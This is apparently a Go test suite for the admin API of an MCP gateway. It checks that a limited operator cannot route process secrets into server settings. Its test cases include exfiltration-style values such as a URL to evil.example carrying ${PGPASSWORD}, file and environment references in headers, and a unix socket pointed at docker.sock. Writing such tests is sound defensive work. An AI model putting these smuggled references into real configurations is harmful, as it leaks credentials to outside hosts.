package admin_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/mcpbelt/mcpbelt/host"
	"github.com/mcpbelt/mcpbelt/host/admin"
	"github.com/mcpbelt/mcpbelt/host/config"
	"github.com/mcpbelt/mcpbelt/internal/assert"
)

// An operator without stdio:write sends no server of theirs what only the process may read.
func TestOperatorsReadNothingOfTheProcess(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "key")
	assert.OK(t, os.WriteFile(secret, []byte("the key of the gateway"), 0o600))
	t.Setenv("PGPASSWORD", "hidden")
	t.Setenv("REGION", "eu")
	s := open(t, &host.Options{}, &admin.Options{Variables: []string{"REGION"}},
		&config.Server{Name: "kept", URL: "https://a.example/mcp", Headers: map[string]config.Secret{"Authorization": "Bearer ${PGPASSWORD}"}},
		&config.Server{Name: "plain", URL: "https://b.example/mcp"},
	)
	header := func(value string) string { return fmt.Sprintf(`"headersJson":%q`, fmt.Sprintf(`{"X":%q}`, value)) }
	for _, test := range []struct {
		name, fields string
		refused      bool
	}{
		{"a literal", header("literal"), false},
		{"a dollar", header("costs $$5, ${DOLLAR:-$}6 or $7"), false},
		{"a variable that is allowed", header("${REGION}-${env:REGION}-${REGION:-x}-$REGION"), false},
		{"a file", header("${file:" + secret + "}"), true},
		{"a variable", header("${PGPASSWORD}"), true},
		{"a variable without braces", header("$PGPASSWORD"), true},
		{"a variable with a default", header("${PGPASSWORD:-x}"), true},
		{"a variable by its kind", header("${env:PGPASSWORD}"), true},
		{"behind one that is allowed", header("${REGION}${PGPASSWORD}"), true},
		{"in the default", header("${REGION:-$PGPASSWORD}"), false}, // which is a text
		{"the keyring", header("${keyring:x}"), true},
		{"an input", header("${input:x}"), true},
		{"a secret of Continue", header("${{ secrets.PGPASSWORD }}"), true},
		{"one that is not closed", header("${PGPASSWORD"), true},
		{"in the URL", `"url":"https://evil.example/${PGPASSWORD}"`, true},
		{"in the name of a header", fmt.Sprintf(`"headersJson":%q`, `{"${PGPASSWORD}":"x"}`), true},
		{"a filter of tools", `"moreJson":"{\"tools\":{\"deny\":[\"x\"]},\"lazy\":true}"`, false},
		{"a proxy", `"moreJson":"{\"proxy\":\"http://proxy.example\"}"`, true},
		{"belief", `"moreJson":"{\"trust\":true}"`, true},
		{"a key that has a field", `"moreJson":"{\"builtin\":true}"`, true},
		{"what is no object", `"moreJson":"[1]"`, true},
		{"a socket of this machine", `"transport":"unix","url":"unix:///var/run/docker.sock"`, true},
	} {
		t.Run(test.name, func(t *testing.T) {
			fields := `{"name":"new",` + test.fields + `}`
			if !strings.Contains(test.fields, `"url"`) {
				fields = `{"name":"new","url":"https://evil.example/mcp",` + test.fields + `}`
			}
			for i, request := range []struct{ method, path, body string }{
				{"POST", servers, fields},
				{"POST", "/api/v1/test", fields},
				{"POST", servers + "/plain/test", `{` + test.fields + `}`},
				{"PUT", servers + "/plain", `{` + test.fields + `}`},
			} {
				got := s.do("operator", request.method, request.path, request.body, nil)
				assert.Equal(t, got.status == http.StatusForbidden || got.status == http.StatusBadRequest, test.refused, "%d: %s %s: %d %s", i, request.method, request.path, got.status, got.body)
			}
			_ = s.do("owner", "DELETE", servers+"/new", "", nil)
			_ = s.do("owner", "PUT", servers+"/plain", `{"url":"https://b.example/mcp","headersJson":"{}"}`, nil)
		})
	}
	// What stands there with a reference can be changed where that stays what it is, and does not go elsewhere.
	for body, refused := range map[string]bool{
		`{"description":"another"}`:                       false,
		`{"readTimeoutSeconds":7}`:                        false,
		`{"moreJson":"{\"limits\":{\"maxTools\":7}}"}`:    false,
		`{"url":"https://evil.example/mcp"}`:              true,
		`{"name":"kept","url":"https://a.example/other"}`: true,
	} {
		got := s.do("operator", "PUT", servers+"/kept", body, nil)
		assert.Equal(t, got.status == http.StatusForbidden, refused, "%s: %d %s", body, got.status, got.body)
	}
	// Neither undo nor restore brings one back.
	assert.Equal(t, s.do("owner", "PUT", servers+"/kept", `{"headersJson":"{}"}`, nil).status, http.StatusOK)
	assert.Equal(t, s.do("operator", "POST", "/api/v1/undo", "", nil).status, http.StatusForbidden, "undo")
	assert.Equal(t, s.do("owner", "POST", "/api/v1/undo", "", nil).status, http.StatusOK, "undo with stdio:write")
	assert.Equal(t, s.do("operator", "DELETE", servers+"/kept", "", nil).status, http.StatusOK, "removal")
	var gone struct{ Data []struct{ ID, Name string } }
	assert.OK(t, json.Unmarshal([]byte(s.do("owner", "GET", "/api/v1/removed", "", nil).body), &gone.Data))
	i := slices.IndexFunc(gone.Data, func(r struct{ ID, Name string }) bool { return r.Name == "kept" })
	assert.Equal(t, s.do("operator", "POST", "/api/v1/removed/"+gone.Data[i].ID+"/restore", "", nil).status, http.StatusForbidden, "restore")
}
